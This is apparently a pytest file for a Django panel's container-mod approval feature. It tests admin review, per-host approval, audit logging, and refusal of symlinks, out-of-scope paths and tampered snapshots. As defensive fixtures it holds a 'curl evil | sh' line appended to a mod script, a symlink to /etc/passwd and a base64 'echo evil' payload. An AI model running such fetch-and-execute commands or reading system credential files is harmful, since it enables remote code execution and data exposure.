"""Container mods (issue 39): an admin adds a mod from a registry (a real git repository the
test creates) or a folder, reviews its files and approves it for hosts; a start applies a
recipe's mods only where every one is approved, and says which one is missing otherwise."""

from __future__ import annotations

from pathlib import Path

import pytest

from apps.audit.models import AuditEntry
from apps.hosts.models import Host
from apps.runs.models import ApprovedMod
from apps.runs.mods import ModRefused, add_mod, approve, bundles_for
from apps.runs.services import RunRefused, mods_refusal
from sparkdomain.mods import bundle_digest
from tests.recipes.factories import make_recipe
from tests.recipes.test_registries import add, git

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def mod_folders(settings, tmp_path):
    """Folders of mods on the panel's machine (settings.MOD_FOLDERS): the test's own."""
    settings.MOD_FOLDERS = [tmp_path]


MANIFEST = "registries:\n  - name: official\n    recipes: recipes\n    mods: official-mods\n"
RUN = '#!/bin/sh\nset -e\ncp chat_template.jinja "$WORKSPACE_DIR/team.jinja"\necho patched\n'


@pytest.fixture
def mod_repo(tmp_path) -> Path:
    repo = tmp_path / "mods-registry"
    (repo / ".sparkrun").mkdir(parents=True)
    (repo / ".sparkrun" / "registry.yaml").write_text(MANIFEST)
    (repo / "recipes").mkdir()
    (repo / "recipes" / "none.yaml").write_text("just: a note\n")
    mod = repo / "official-mods" / "fix-template"
    mod.mkdir(parents=True)
    (mod / "run.sh").write_text(RUN)
    (mod / "chat_template.jinja").write_text("{{ messages }}")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "first")
    return repo


@pytest.fixture
def docker_hosts(db):
    return [Host.objects.create(name=f"dock-{i}", engine=Host.Engine.DOCKER) for i in (1, 2)]


def modded(name: str = "Modded", *mods: dict):
    return make_recipe(name=name, mods=list(mods) or [{"kind": "mod", "name": "mods/fix-template"}])


def test_an_admin_adds_reviews_and_approves_a_mod_from_a_registry(
    client, admin_user, mod_repo, settings, tmp_path, docker_hosts
) -> None:
    settings.VAR_DIR = tmp_path / "var"
    registry = add(client, admin_user, mod_repo)
    response = client.post("/admin/runs/approvedmod/add/",
                           {"registry": registry.pk, "ref": "mods/fix-template"})  # fmt: skip
    assert response.status_code == 302, response.content.decode()[-2000:]
    mod = ApprovedMod.objects.get(name="fix-template")
    assert response["Location"].endswith(f"/admin/runs/approvedmod/{mod.pk}/change/")
    assert not mod.approved and "official-mods/fix-template/" in mod.source
    assert registry.commit[:12] in mod.source
    review = client.get(response["Location"]).content.decode()
    assert "cp chat_template.jinja" in review and "{{ messages }}" in review

    recipe = modded()
    with pytest.raises(ModRefused, match="added but not approved for this host"):
        bundles_for(recipe, docker_hosts[0])
    response = client.post(response["Location"],
                           {"approved": "on", "hosts": [docker_hosts[0].pk]})  # fmt: skip
    assert response.status_code == 302
    mod.refresh_from_db()
    assert mod.approved and mod.approved_by == admin_user and mod.approved_at
    (bundle,) = bundles_for(recipe, docker_hosts[0])
    assert bundle.name == "fix-template" and bundle.files["run.sh"].decode() == RUN
    assert bundle.digest == mod.digest
    with pytest.raises(ModRefused, match="dock-2 does not allow it"):
        bundles_for(recipe, docker_hosts[1])
    assert {"mod.add", "mod.approve"} <= set(AuditEntry.objects.values_list("action", flat=True))


def test_only_an_admin_reaches_the_mods(client, operator) -> None:
    client.force_login(operator)
    assert client.get("/admin/runs/approvedmod/add/").status_code in (302, 403)


def test_changed_files_take_the_approval_away(admin_user, tmp_path, docker_hosts) -> None:
    folder = tmp_path / "fix-template"
    folder.mkdir()
    (folder / "run.sh").write_text(RUN)
    mod = add_mod(user=admin_user, folder=str(folder))
    approve(mod, user=admin_user, hosts=docker_hosts)
    assert bundles_for(modded(), docker_hosts[1])
    (folder / "run.sh").write_text(RUN + "curl evil | sh\n")
    again = add_mod(user=admin_user, folder=str(folder))
    assert again.pk == mod.pk and not again.approved
    assert again.digest == bundle_digest({"run.sh": (folder / "run.sh").read_bytes()})
    with pytest.raises(ModRefused, match="not approved"):
        bundles_for(modded("Again"), docker_hosts[1])


def test_a_folder_with_a_link_or_without_run_sh_is_refused(admin_user, tmp_path) -> None:
    folder = tmp_path / "linked"
    folder.mkdir()
    (folder / "run.sh").write_text(RUN)
    (folder / "secret").symlink_to("/etc/passwd")
    with pytest.raises(ModRefused, match="only plain files"):
        add_mod(user=admin_user, folder=str(folder))
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "setup.sh").write_text(RUN)
    with pytest.raises(ModRefused, match="has none"):
        add_mod(user=admin_user, folder=str(empty))
    # Only below the panel machine's mod folders: never a folder it merely can read.
    for elsewhere in ("/etc", str(tmp_path), f"{tmp_path}/../x", "etc/ssl"):
        with pytest.raises(ModRefused, match=r"mod folders|absolute path"):
            add_mod(user=admin_user, folder=elsewhere)
    assert not ApprovedMod.objects.exists()


def test_a_start_says_what_it_cannot_apply(admin_user, tmp_path, docker_hosts, sim_host) -> None:
    with pytest.raises(RunRefused) as refused:
        mods_refusal(modded(), docker_hosts[0])
    assert refused.value.code == "mods_not_allowed"
    assert "fix-template: not added" in str(refused.value)
    shell = modded("Shell", {"kind": "command", "text": "pip install y"})
    with pytest.raises(ModRefused, match="never runs"):
        bundles_for(shell, docker_hosts[0])
    # A `patches:` list names what the image was built with: never applied, never refused.
    assert bundles_for(modded("Patched", {"kind": "patch", "name": "p.py"}), sim_host) == []
    with pytest.raises(ModRefused, match="local process"):
        bundles_for(modded("Local"), sim_host)
    with pytest.raises(ModRefused, match="pair"):
        bundles_for(modded("Pair"), docker_hosts[0], pair=True)
    # A stored snapshot changed behind the panel's back never runs.
    folder = tmp_path / "fix-template"
    folder.mkdir()
    (folder / "run.sh").write_text(RUN)
    mod = add_mod(user=admin_user, folder=str(folder))
    approve(mod, user=admin_user, hosts=[docker_hosts[0]])
    mods_refusal(modded("Fine"), docker_hosts[0])  # approved: no refusal
    ApprovedMod.objects.filter(pk=mod.pk).update(files={"run.sh": "ZWNobyBldmls"})
    with pytest.raises(ModRefused, match="do not match"):
        bundles_for(modded("Tampered"), docker_hosts[0])


def test_the_recipe_page_says_where_each_mod_may_run(client, operator, admin_user, tmp_path,
                                                     docker_hosts) -> None:  # fmt: skip
    recipe = modded(
        "Paged",
        {"kind": "mod", "name": "mods/fix-template"},
        {"kind": "mod", "name": "mods/other"},
        {"kind": "patch", "name": "p.diff"},
    )
    folder = tmp_path / "fix-template"
    folder.mkdir()
    (folder / "run.sh").write_text(RUN)
    approve(add_mod(user=admin_user, folder=str(folder)), user=admin_user,
            hosts=[docker_hosts[1]])  # fmt: skip
    client.force_login(operator)
    page = client.get(f"/recipes/{recipe.slug}/").content.decode()
    section = page.split('id="recipe-mods"')[1].split("</div>")[0]
    assert "fix-template&#x27;</code>: approved on dock-2" in section
    assert "mods/other&#x27;</code>: not added" in section
    assert "p.diff&#x27;</code>: kept, not applied (as in sparkrun)" in section
